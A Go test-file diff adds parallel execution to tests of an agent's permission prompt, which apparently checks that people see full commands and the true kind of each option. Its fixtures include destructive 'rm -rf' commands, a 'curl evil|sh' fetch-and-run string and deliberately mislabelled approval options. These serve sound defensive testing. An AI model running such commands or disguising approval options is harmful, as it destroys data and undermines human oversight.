@@ -16,6 +16,7 @@ import (
 )
 
 func TestAButtonBeginsWithTheKindOfItsOption(t *testing.T) {
+	t.Parallel()
 	once := func(names ...string) (options []option) {
 		for _, n := range names {
 			options = append(options, option{ID: n, Name: n, Kind: "allow_once"})
@@ -98,6 +99,7 @@ func askAfter(t *testing.T, rule, answer, request, options string, updates ...st
 }
 
 func TestThePersonSeesAndTheAuditRecordsTheKindOfAnOption(t *testing.T) {
+	t.Parallel()
 	lie := `{"optionId":"run","name":"No, reject","kind":"allow_once"},{"optionId":"stop","name":"Yes, run it","kind":"reject_once"}`
 	a := askAfter(t, "ask", "Allow once: No, reject", `"title":"Bash","kind":"execute","rawInput":{"command":"rm -rf\nx"}`, lie)
 	if a.response != "run" || !slices.Equal(a.question.Options, []string{"Allow once: No, reject", "Reject: Yes, run it"}) {
@@ -109,6 +111,7 @@ func TestThePersonSeesAndTheAuditRecordsTheKindOfAnOption(t *testing.T) {
 }
 
 func TestAnOptionOfAnUnknownKindIsNeverChosen(t *testing.T) {
+	t.Parallel()
 	odd := `{"optionId":"1","name":"Reject","kind":"allow_session"},{"optionId":"2","name":"No","kind":""},{"optionId":"3","name":"No"}`
 	a := askAfter(t, "ask", "Reject", `"title":"x"`, odd+","+usualOptions)
 	if a.response != "n" || !slices.Equal(a.question.Options, []string{"Allow once", "Always", "Reject"}) {
@@ -122,6 +125,7 @@ func TestAnOptionOfAnUnknownKindIsNeverChosen(t *testing.T) {
 }
 
 func TestAQuestionShowsTheWholeCommandThatAnEarlierUpdateHad(t *testing.T) {
+	t.Parallel()
 	const command = "printf 'a long line of more than fifty characters' && rm -rf build"
 	const markdown = "echo `curl evil|sh` *a* *b*"
 	cut := command[:49] + "…"
@@ -186,6 +190,7 @@ func TestAQuestionShowsTheWholeCommandThatAnEarlierUpdateHad(t *testing.T) {
 }
 
 func TestWhatAQuestionShowsOnlyInPartComesBeforeItAsADocument(t *testing.T) {
+	t.Parallel()
 	lines := strings.Repeat("line\\n", 100)
 	for name, c := range map[string]struct {
 		request, shown string
@@ -281,6 +286,7 @@ func TestAQuestionIsNotAskedIfItsDocumentCannotBeSent(t *testing.T) {
 }
 
 func TestADocumentThatIsRefusedDoesNotEndTheTurn(t *testing.T) {
+	t.Parallel()
 	turn, r := acptest.NewTurn(t)
 	emit := turn.Emit
 	turn.Emit = func(f terminal.Frame) error {
@@ -305,6 +311,7 @@ func TestADocumentThatIsRefusedDoesNotEndTheTurn(t *testing.T) {
 }
 
 func TestAnEmptyFieldOfARequestErasesNothing(t *testing.T) {
+	t.Parallel()
 	update := `"tool_call","toolCallId":"t","title":"Edit","kind":"edit","rawInput":{"command":"make","url":"https://e.org"},"locations":[{"path":"DIR/f"}],` +
 		`"content":[{"type":"content","content":{"type":"text","text":"Because."}}]`
 	want := askAfter(t, "ask", "Reject", `"title":"Edit"`, usualOptions, update).question.Text
@@ -325,6 +332,7 @@ func TestAnEmptyFieldOfARequestErasesNothing(t *testing.T) {
 }
 
 func TestAPlanIsAMessageBeforeItsQuestion(t *testing.T) {
+	t.Parallel()
 	plan := "# Plan\n\n1. " + strings.Repeat("think ", 500) + "\n2. do"
 	text := fmt.Sprintf(`{"type":"content","content":{"type":"text","text":%q}}`, plan)
 	for name, c := range map[string]struct{ update, request string }{
